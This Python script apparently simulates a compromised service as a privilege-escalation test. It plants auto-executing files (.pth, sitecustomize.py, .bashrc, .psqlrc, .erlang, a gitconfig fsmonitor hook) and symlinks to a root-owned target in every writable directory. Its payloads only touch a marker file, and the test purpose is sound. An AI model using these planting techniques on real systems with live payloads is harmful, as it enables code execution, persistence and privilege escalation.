"""Runs as a captured service: plants links and code in every directory that it can write. Prints the directories as JSON."""

from __future__ import annotations

import json
import os
import sys

TARGET, MARKER = "/root/attack-target", "/var/tmp/attack-ran"
SKIPPED = ("/proc", "/sys", "/dev", "/tmp", "/var/tmp", "/run/lock", "/run/user", "/run/attack")
PYTHON = f"python{sys.version_info[0]}.{sys.version_info[1]}"
CODE = f"import os; open('{MARKER}-' + str(os.geteuid()), 'w').close()\n"
SHELL = f"touch {MARKER}-$(id -u)\n"
# What Python, shells, pip, psql, Erlang, git and Ansible read from a home directory or a working directory.
FILES = {
    f".local/lib/{PYTHON}/site-packages/attack.pth": CODE,
    f".local/lib/{PYTHON}/site-packages/usercustomize.py": CODE,
    f".local/lib/{PYTHON}/site-packages/sitecustomize.py": CODE,
    "sitecustomize.py": CODE,
    "json.py": CODE,
    ".profile": SHELL,
    ".bashrc": SHELL,
    ".bash_profile": SHELL,
    ".psqlrc": f"\\! {SHELL}",
    ".erlang": f'os:cmd("{SHELL.strip()}").\n',
    ".gitconfig": f"[core]\n\tfsmonitor = {SHELL}",
    ".config/pip/pip.conf": "[global]\nindex-url = http://127.0.0.1:9/\n",
    ".config/uv/uv.toml": 'index-url = "http://127.0.0.1:9/"\n',
    "ansible.cfg": "[defaults]\n",
}
# What root could write through a link: names that the roles use, and names that a tool may use.
LINKS = (
    ".complete",
    ".ansible",
    ".cache",
    ".ssh",
    "environment",
    "definitions.json",
    "backup",
    "dump.pgc",
    "celerybeat-schedule",
    ".erlang.cookie",
)
REPLACED = (".erlang.cookie",)


def plant(directory):
    for name, content in FILES.items():
        path = os.path.join(directory, name)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        if not os.path.lexists(path):
            with open(path, "w") as file:
                file.write(content)
    for name in LINKS:
        path = os.path.join(directory, name)
        if name in REPLACED and os.path.isfile(path):
            os.rename(path, path + ".attack")
        if not os.path.lexists(path):
            os.symlink(TARGET, path)


planted = []
for folder, folders, _ in os.walk("/"):
    if folder in SKIPPED:
        folders[:] = []
    elif os.access(folder, os.W_OK):
        # The directory of a database's files, and of a queue's, has thousands of entries below it.
        folders[:] = [name for name in folders if name not in (".local", ".config")]
        try:
            plant(folder)
            planted.append(folder)
        except OSError as error:
            print(folder, error, file=sys.stderr)
print(json.dumps(planted))
